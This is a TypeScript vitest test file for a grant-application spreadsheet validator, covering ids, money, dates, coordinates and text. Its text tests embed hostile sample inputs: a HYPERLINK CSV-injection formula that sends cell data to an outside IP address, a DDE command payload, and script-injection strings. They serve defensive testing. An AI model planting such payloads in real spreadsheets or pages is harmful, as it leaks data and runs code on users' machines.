import { describe, expect, it } from 'vitest';
import { caseOf, errorsOf, idsOf, readBytes, readCase } from './cases.ts';

// Cases about single values: ids, money, dates, coordinates, choices, text.

describe('ids', () => {
  it('030-id-leading-zeros-cast: ids are text', async () => {
    expect(idsOf(await readCase('030-id-leading-zeros-cast'))).toEqual(['00123', '24E10', '0x1F']);
  });

  it('032-id-turned-date: an id that a spreadsheet turned into a date is refused', async () => {
    expect(errorsOf(await readCase('032-id-turned-date'))).toEqual([
      '2 S403 application_id',
      '3 S403 application_id',
    ]);
  });

  it('033-id-text-guards: one guard comes off', async () => {
    expect(idsOf(await readCase('033-id-text-guards'))).toEqual(['00123', '00124']);
  });

  it('035-duplicate-across-batch: both rows wait, wherever they stand', async () => {
    const batch = await readCase('035-duplicate-across-batch');
    expect(batch.counts).toEqual({ seen: 26, accepted: 24, refused: 2, blank: 0 });
    expect(errorsOf(batch)).toEqual(['26 V304 application_id', '27 V304 application_id']);
    const [header, ...rows] = (caseOf('035-duplicate-across-batch').input.text ?? '').trim().split('\n');
    const first = await readBytes(Buffer.from([header, ...rows.slice(-2), ...rows.slice(0, -2)].join('\n')));
    expect(errorsOf(first)).toEqual(['2 V304 application_id', '3 V304 application_id']);
    expect(new Set(idsOf(first))).toEqual(new Set(idsOf(batch)));
  });

  it('109-report-ids-as-dates: ids that look like dates to a spreadsheet stay as they are', async () => {
    expect(idsOf(await readCase('109-report-ids-as-dates'))).toEqual(['10-12-2026', '00123', '24E10']);
  });

  it('027-program-constructor: names that every object has are unknown words', async () => {
    const batch = await readCase('027-program-constructor');
    expect(errorsOf(batch)).toEqual(['2 V201 program', '3 V203 project_type', '4 V301 locality']);
  });
});

describe('money', () => {
  it('036-money-sci-lost-digits: scientific notation is refused because digits are lost', async () => {
    const batch = await readCase('036-money-sci-lost-digits');
    expect(errorsOf(batch)).toEqual(['2 S102 eligible_cost', '2 S102 requested_grant']);
    expect(batch.findings.find((finding) => finding.code === 'S102')?.message).toContain(
      'digits have been lost',
    );
  });

  it("037-money-accounting-dash: an accountant's dash is 0", async () => {
    const [application] = (await readCase('037-money-accounting-dash')).applications;
    expect(application).toMatchObject({
      eligibleCost: 50_000_000,
      federalGrant: 0,
      otherGrants: 0,
      requestedGrant: 20_000_000,
    });
  });

  it('038-money-negatives: a negative is refused in each of its forms', async () => {
    const expected = [2, 3, 4, 5].map((row) => `${String(row)} S104 federal_grant`);
    expect(errorsOf(await readCase('038-money-negatives'))).toEqual(expected);
  });

  it('039-money-decimal-liberal: only the published grammar is an amount', async () => {
    expect(errorsOf(await readCase('039-money-decimal-liberal'))).toEqual([
      '2 S111 eligible_cost',
      '3 S111 eligible_cost',
      '4 S111 eligible_cost',
      '5 S111 eligible_cost',
      '6 S111 eligible_cost',
      '7 S102 eligible_cost',
      '8 S112 eligible_cost',
      '9 S113 eligible_cost',
    ]);
  });

  it('041-limit-rounding-down: odd cents are read to the cent', async () => {
    const { applications } = await readCase('041-limit-rounding-down');
    expect([...applications].map((application) => application.eligibleCost)).toEqual([
      10_000_001, 10_000_003,
    ]);
  });

  it('043-money-text: text is refused, each with the column and its own reason', async () => {
    const batch = await readCase('043-money-text');
    expect(errorsOf(batch).map((error) => error.split(' ')[1])).toEqual([
      'S101', // N/A
      'S101', // TBD
      'S114', // ~1.2M
      'S108', // 50%
      'S107', // #REF!
      'S107', // ########
      'S101', // see attached
      'S101', // 1200000 (est.)
      'S114', // 1.2 million
      'S114', // $500K
    ]);
    const told = batch.findings.filter((finding) => finding.severity === 'error');
    expect(
      told.every(
        (finding) => finding.column === 'eligible_cost' && finding.message.includes(finding.value ?? '-'),
      ),
    ).toBe(true);
    expect(told.find((finding) => finding.value === '########')?.message).toContain('column too narrow');
  });

  it('092-poison-file: one bad amount is a refused row and no fault', async () => {
    const batch = await readCase('092-poison-file');
    expect(errorsOf(batch)).toEqual(['2 S101 requested_grant']);
    expect(batch.waiting.map((row) => row.applicationId)).toEqual(['A-101']);
  });
});

describe('dates', () => {
  it('047-date-rollover: a day on no calendar is no day', async () => {
    const batch = await readCase('047-date-rollover');
    expect(batch.counts).toMatchObject({ accepted: 0, refused: 7 });
    expect(errorsOf(batch)).toEqual([
      '2 S202 received_on',
      '3 S202 received_on',
      '4 S202 received_on',
      '5 S203 received_on',
      '6 S202 received_on',
      '7 S201 received_on',
      '8 S201 received_on',
    ]);
  });

  it.each(['UTC', 'America/New_York', 'Pacific/Auckland'])(
    '048-date-iso-vs-us: both forms are one day in %s',
    async (zone) => {
      const before = process.env.TZ;
      process.env.TZ = zone;
      const { applications } = await readCase('048-date-iso-vs-us').finally(() => {
        if (before === undefined) delete process.env.TZ;
        else process.env.TZ = before;
      });
      expect([...applications].map((application) => application.receivedOn)).toEqual([
        '2026-07-01',
        '2026-07-01',
      ]);
    },
  );

  it('052-date-dayfirst-column: one day-first date puts the others in doubt', async () => {
    const batch = await readCase('052-date-dayfirst-column');
    expect(errorsOf(batch)).toEqual(['2 S207 received_on', '3 S203 received_on']);
    expect(batch.applications).toHaveLength(0);
  });
});

describe('places', () => {
  it('067-null-island: 0, 0 and a missing coordinate are no place', async () => {
    const batch = await readCase('067-null-island');
    expect(errorsOf(batch)).toEqual(['2 V411 latitude', '3 V405 latitude', '4 V406 longitude']);
    const centers = 'center_id,name,locality,latitude,longitude,open\nC-1,Amity Center,24029,0,0,yes\n';
    const withCenters = await readCase('067-null-island', { centers });
    expect(withCenters.referenceFault).toBe(true);
    expect(withCenters.findings.find((finding) => finding.file === 'centers')?.code).toBe('V411');
  });

  it('068-coords-dms-comma: only decimal degrees with a point are read', async () => {
    expect(errorsOf(await readCase('068-coords-dms-comma'))).toEqual([
      '2 S302 latitude',
      '2 S302 longitude',
      '3 S304 latitude',
      '3 S304 longitude',
      '4 S303 latitude',
      '4 S303 longitude',
    ]);
  });
});

describe('text', () => {
  it('102-csv-injection-vs-numbers: names that begin like a formula are accepted unchanged', async () => {
    const { applications } = await readCase('102-csv-injection-vs-numbers');
    expect([...applications].map((application) => application.centerName)).toEqual([
      '=HYPERLINK("http://203.0.113.9/?x="&A1,"open")',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '+1 410 555 0100',
      '- see notes',
    ]);
  });

  it('105-report-no-bom: accents and curly apostrophes are kept', async () => {
    const [application] = (await readCase('105-report-no-bom')).applications;
    expect(application).toMatchObject({ centerName: 'René Café Center', locality: { fips: '24033' } });
  });

  it('106-xlsx-control-and-length: control characters and over-long names are refused', async () => {
    const text = caseOf('106-xlsx-control-and-length').input.text ?? '';
    const [header, row = ''] = text.split('\n');
    const cells = row.replace('A-440', 'A-441').split(',');
    const long = cells.with(6, 'x'.repeat(40_000)).join(',');
    const batch = await readBytes(Buffer.from([header, row, long].join('\n')));
    expect(errorsOf(batch)).toEqual(['2 S501 center_name', '3 S503 center_name']);
    expect((batch.findings.find((finding) => finding.code === 'S503')?.value ?? '').length).toBeLessThan(
      32_767,
    );
  });

  it('110-html-script: markup is text, and no id', async () => {
    const batch = await readCase('110-html-script');
    expect([...batch.applications].map(({ applicant, centerName }) => [applicant, centerName])).toEqual([
      ['O\'Neil & "Sons" <b>', '</script><img src=x onerror=alert(1)>'],
    ]);
    expect(errorsOf(batch)).toEqual(['3 S402 application_id']);
    expect(batch.findings.find((finding) => finding.code === 'S402')?.value).toBe('"><svg onload=alert(1)>');
  });
});
